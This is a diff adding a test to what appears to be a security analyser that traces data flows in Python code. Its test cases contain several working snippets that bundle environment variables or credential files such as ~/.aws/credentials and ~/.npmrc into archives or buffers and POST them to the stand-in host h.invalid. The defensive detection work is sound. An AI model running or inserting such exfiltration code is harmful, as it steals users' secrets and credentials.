@@ -510,6 +510,47 @@ t.test('what a command does to the machine is a fact', t => {
   t.end()
 })
 
+t.test('what Python puts into files in memory and into archives goes where those go', t => {
+  const cases: [string, string][] = [
+    [
+      'b = io.BytesIO()\nwith zipfile.ZipFile(b, "w") as z:\n  z.writestr("e", json.dumps(dict(os.environ)))\nrequests.post("http://h.invalid", data=b.getvalue())',
+      'env:os.environ > network:payload',
+    ],
+    [
+      'b = io.BytesIO()\nt = tarfile.open(fileobj=b, mode="w:gz")\nt.add(os.path.expanduser("~/.aws/credentials"))\nt.close()\nrequests.post("http://h.invalid", files={"f": b})',
+      'credential-file:~/.aws/credentials > network:payload',
+    ],
+    [
+      'z = zipfile.ZipFile("/tmp/a.zip", "w")\nz.write(os.path.expanduser("~/.npmrc"))\nz.close()\nrequests.post("http://h.invalid", data=open("/tmp/a.zip", "rb").read())',
+      'credential-file:~/.npmrc > network:payload',
+    ],
+    [
+      'b = io.StringIO()\nw = csv.writer(b)\nfor k, v in os.environ.items():\n  w.writerow([k, v])\nrequests.post("http://h.invalid", data=b.getvalue())',
+      'env:os.environ > network:payload',
+    ],
+    [
+      'b = io.BytesIO()\ng = gzip.GzipFile(fileobj=b, mode="wb")\ng.write(json.dumps(dict(os.environ)).encode())\nrequests.post("http://h.invalid", data=b.getvalue())',
+      'env:os.environ > network:payload',
+    ],
+    [
+      'b = io.StringIO()\njson.dump(dict(os.environ), b)\nrequests.post("http://h.invalid", data=b.getvalue())',
+      'env:os.environ > network:payload',
+    ],
+  ]
+  const imports = 'import os, io, json, csv, gzip, zipfile, tarfile, requests\n'
+  for (const [text, flow] of cases) {
+    const flows = flowsOf(read(imports + text, 'python'))
+    t.ok(flows.includes(flow), `${text}: ${flows.join(', ')}`)
+  }
+  const kept =
+    'b = io.BytesIO()\nc = io.BytesIO()\nz = zipfile.ZipFile(b, "w")\nz.writestr("e", json.dumps(dict(os.environ)))\nc.write(b"built")\nrequests.post("http://h.invalid", data=c.getvalue())'
+  t.notOk(
+    flowsOf(read(imports + kept, 'python')).includes('env:os.environ > network:payload'),
+    'what is in another container stays there',
+  )
+  t.end()
+})
+
 t.test('Python and PowerShell files are followed', t => {
   const python = read(
     `import os, requests as r
